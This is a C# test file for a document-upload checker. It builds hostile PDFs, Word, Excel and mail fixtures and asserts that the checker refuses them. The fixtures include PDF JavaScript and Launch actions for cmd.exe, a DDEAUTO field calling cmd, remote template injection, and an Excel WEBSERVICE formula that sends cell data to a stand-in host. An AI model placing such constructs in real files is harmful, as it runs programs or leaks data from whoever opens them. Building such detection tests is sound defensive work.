using System.IO.Compression;
using System.Text;
using Throughline.Core.Documents.Processes;
using Throughline.Core.Evidence;
using Throughline.Documents;
using Throughline.Testing;

namespace Throughline.Core.Tests.Evidence;

/// <summary>
/// What a file runs, fetches or hides is found in its content, whatever it is called, and refused with a sentence that says
/// what to do; what honest files have is taken.
/// </summary>
[Trait("needs", "server")]
public sealed class FilesThatCarrySomething
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static readonly FileCheck Check = new(new EvidenceSettings());

    private static readonly Dictionary<string, (string Name, byte[] Bytes, string Why)> Refused = new()
    {
        ["a PDF with script"] = (
            "a.pdf",
            HostilePdf.Carrying("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
            "holds script"
        ),
        ["a PDF whose script's name is disguised"] = (
            "a.pdf",
            HostilePdf.Carrying("/OpenAction 4 0 R", "<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
            "holds script"
        ),
        ["a PDF whose script is packed"] = (
            "a.pdf",
            HostilePdf.Packed("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
            "holds script"
        ),
        ["a PDF that starts a program, packed"] = (
            "a.pdf",
            HostilePdf.Packed("/OpenAction 4 0 R", "<</S/Launch/F(cmd.exe)>>"),
            "starts a program"
        ),
        ["a PDF with a file in it, packed"] = (
            "a.pdf",
            HostilePdf.Packed("/Names 4 0 R", "<</EmbeddedFiles<</Names[(x)<</Type/Filespec/F(run.exe)>>]>>>>"),
            "holds another file"
        ),
        ["a PDF that sends its form"] = (
            "a.pdf",
            HostilePdf.Carrying("/OpenAction 4 0 R", "<</S/SubmitForm/F(http://elsewhere.example)>>"),
            "fetches"
        ),
        ["a PDF with an XFA form"] = ("a.pdf", HostilePdf.Carrying("/AcroForm<</XFA(x)/Fields[]>>"), "holds script"),
        ["a PDF that nobody can look into"] = ("a.pdf", "%PDF-1.7 nonsense"u8.ToArray(), "PDF"),
        ["a workbook within a Word file"] = (
            "a.docx",
            Word(Relation("package", "embeddings/Book.xlsx"), ("word/embeddings/Book.xlsx", "x")),
            "holds another file"
        ),
        ["an object of another program"] = (
            "a.docx",
            Word(Relation("oleObject", "embeddings/oleObject1.bin"), ("word/embeddings/oleObject1.bin", "x")),
            "holds another file"
        ),
        ["a web page within a Word file"] = ("a.docx", Word(Relation("aFChunk", "afchunk.mht")), "holds another file"),
        ["a template on the web"] = (
            "a.docx",
            Word(Relation("attachedTemplate", "https://elsewhere.example/t.dotm", away: true)),
            "fetches its template"
        ),
        ["a template on another computer"] = (
            "a.docx",
            Word(Relation("attachedTemplate", @"file:///\\server\share\t.dotx", away: true)),
            "fetches its template"
        ),
        ["a picture on the web"] = (
            "a.docx",
            Word(Relation("image", "http://elsewhere.example/p.png", away: true)),
            "fetches pictures"
        ),
        ["a field that fetches, in pieces"] = (
            "a.docx",
            WordOf(Field("INCLUDE", "PICTURE \"http://elsewhere.example/x\"")),
            "fetches pictures"
        ),
        ["a field that starts a program within another"] = (
            "a.docx",
            WordOf(Field("IF 1 = 1 ", "") + Field("DDEAUTO c:\\\\windows\\\\cmd", "")),
            "fetches pictures"
        ),
        ["a workbook that asks the web"] = (
            "a.xlsx",
            Workbook("<f>_xlfn.WEBSERVICE(\"http://elsewhere.example/\"&amp;A1)</f>"),
            "fetches pictures"
        ),
        ["a workbook with a connection"] = ("a.xlsx", Workbook("", ("xl/connections.xml", "<c/>")), "fetches pictures"),
        ["a workbook that calls a program"] = (
            "a.xlsx",
            Workbook("", ("xl/externalLinks/externalLink1.xml", "<x><ddeLink ddeService='cmd'/></x>")),
            "starts a program"
        ),
        ["a workbook with old macros"] = (
            "a.xlsx",
            Workbook("", ("xl/macrosheets/sheet1.xml", "<x/>")),
            "holds macros"
        ),
        ["a mail with a program"] = ("a.eml", Mail("run.exe", "MZ"u8.ToArray()), "may run something"),
        ["a mail with an old Office file"] = ("a.eml", Mail("old.doc", [1]), "may run something"),
        ["a mail with a PDF with script"] = (
            "a.eml",
            Mail("a.pdf", HostilePdf.Packed("/OpenAction 4 0 R", "<</S/JavaScript/JS(x)>>")),
            "attached to the mail is not taken"
        ),
        ["an Outlook mail with macros"] = ("a.msg", CompoundWriter.Write(("_VBA_PROJECT", [1])), "holds macros"),
        ["an Outlook mail with a program"] = (
            "a.msg",
            CompoundWriter.Write(("__substg1.0_37010102", "MZ and more"u8.ToArray())),
            "may run something"
        ),
        ["an Outlook mail with a script by name"] = (
            "a.msg",
            CompoundWriter.Write(("__substg1.0_3707001F", Encoding.Unicode.GetBytes("run.js"))),
            "may run something"
        ),
        ["an Outlook mail with a Word file with macros"] = (
            "a.msg",
            CompoundWriter.Write(("__substg1.0_37010102", Word("", ("word/vbaProject.bin", "x")))),
            "attached to the mail is not taken"
        ),
    };

    private static readonly Dictionary<string, (string Name, byte[] Bytes)> Taken = new()
    {
        ["a PDF with a link"] = (
            "a.pdf",
            HostilePdf.Carrying("/OpenAction 4 0 R", "<</S/URI/URI(https://www.example.org)>>")
        ),
        ["a packed PDF"] = ("a.pdf", HostilePdf.Packed("", "<</A 1>>")),
        ["a Word file with a link"] = ("a.docx", Word(Relation("hyperlink", "https://www.example.org", away: true))),
        ["a Word file of its writer's own template"] = (
            "a.docx",
            Word(Relation("attachedTemplate", "file:///C:\\Users\\ann\\Council.dotm", away: true))
        ),
        ["a Word file with page numbers and links"] = (
            "a.docx",
            WordOf(Field("PAGE ", "") + Field("HYPERLINK \"http://x/LINK\"", ""))
        ),
        ["a chart with its figures"] = (
            "a.docx",
            Word(
                Relation("chart", "charts/chart1.xml"),
                ("word/charts/_rels/chart1.xml.rels", Relations(Relation("package", "../embeddings/Book.xlsx"))),
                ("word/embeddings/Book.xlsx", "x")
            )
        ),
        ["a workbook that refers to one beside it"] = (
            "a.xlsx",
            Workbook(
                "<f>SUM(A1:A3)</f>",
                (
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    Relations(Relation("externalLinkPath", "Figures.xlsx", away: true))
                )
            )
        ),
        ["a mail with an invitation"] = ("a.eml", Mail("invite.ics", "BEGIN:VCALENDAR"u8.ToArray())),
        ["a mail with a Word file"] = ("a.eml", Mail("a.docx", Word(""))),
        ["an Outlook mail"] = (
            "a.msg",
            CompoundWriter.Write(("__substg1.0_1000001F", Encoding.Unicode.GetBytes("Hello")))
        ),
    };

    public static TheoryData<string> WhatIsRefused => [.. Refused.Keys];

    public static TheoryData<string> WhatIsTaken => [.. Taken.Keys];

    [Theory, MemberData(nameof(WhatIsRefused))]
    public void Is_refused(string what)
    {
        var (name, bytes, why) = Refused[what];
        string told;
        try
        {
            Check.Check(name, bytes);
            told = "";
        }
        catch (Exception e) when (e is FileRefusedException or UnreadableDocumentException)
        {
            told = e.Message;
        }

        told.ShouldContain(why);
        told.TrimEnd('.').Split(". ").Length.ShouldBeGreaterThan(1, "it says what to do, too");
    }

    [Theory, MemberData(nameof(WhatIsTaken))]
    public void Is_taken(string what) => Should.NotThrow(() => Check.Check(Taken[what].Name, Taken[what].Bytes));

    /// <summary>The upload of a page takes a process of its own to look: one that dies over the file is a refusal.</summary>
    [Fact]
    public async Task Is_looked_for_in_a_process_of_its_own()
    {
        using var readers = new Readers(new ReaderSettings { Seconds = 20 }, new ReadingLimits());
        var taking = new FileTaking(new EvidenceSettings(), Check, readers);
        foreach (var (name, bytes, why) in Refused.Values.Take(3))
        {
            (await RefusalAsync(taking, name, bytes)).ShouldContain(why);
        }

        (await RefusalAsync(taking, "ring.pdf", HostilePdf.Of("a page tree that is a ring"))).ShouldContain("upload");
        var file = await taking.ReadAsync("a.docx", new MemoryStream(Word("")), default);
        file.Sha256.Length.ShouldBe(64);
    }

    private static async Task<string> RefusalAsync(FileTaking taking, string name, byte[] bytes) =>
        (
            await Should.ThrowAsync<FileRefusedException>(() =>
                taking.ReadAsync(name, new MemoryStream(bytes), default)
            )
        ).Message;

    private static string Relation(string type, string target, bool away = false) =>
        $"<Relationship Id='r1' Type='{Office}{type}' Target='{target}'{(away ? " TargetMode='External'" : "")}/>";

    private static string Relations(string relation) =>
        $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{relation}</Relationships>";

    /// <summary>A field whose instruction lies in two runs.</summary>
    private static string Field(string first, string second) =>
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        + $"<w:r><w:instrText>{first}</w:instrText></w:r><w:r><w:instrText>{second}</w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>shown</w:t></w:r>"
        + "<w:r><w:fldChar w:fldCharType='end'/></w:r>";

    private static byte[] Word(string relation, params (string Name, string Text)[] parts) => Word(relation, "", parts);

    private static byte[] WordOf(string body) => Word("", body, []);

    private static byte[] Word(string relation, string body, (string Name, string Text)[] parts) =>
        Zip([
            ("[Content_Types].xml", "<Types/>"),
            (
                "word/document.xml",
                $"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p>{body}</w:p></w:body></w:document>"
            ),
            ("word/_rels/document.xml.rels", Relations(relation)),
            .. parts,
        ]);

    private static byte[] Workbook(string formula, params (string Name, string Text)[] parts) =>
        Zip([
            ("[Content_Types].xml", "<Types/>"),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/worksheets/sheet1.xml", $"<worksheet><c>{formula}</c></worksheet>"),
            .. parts,
        ]);

    private static byte[] Mail(string name, byte[] attached) =>
        Encoding.ASCII.GetBytes(
            "From: a@example.org\r\nSubject: Audit\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
                + "--x\r\nContent-Type: text/plain\r\n\r\nDone\r\n"
                + $"--x\r\nContent-Type: application/octet-stream; name={name}\r\nContent-Transfer-Encoding: base64\r\n"
                + $"Content-Disposition: attachment; filename={name}\r\n\r\n{Convert.ToBase64String(attached)}\r\n--x--\r\n"
        );

    private static byte[] Zip((string Name, string Text)[] parts)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in parts)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open());
                writer.Write(text);
            }
        }

        return bytes.ToArray();
    }
}
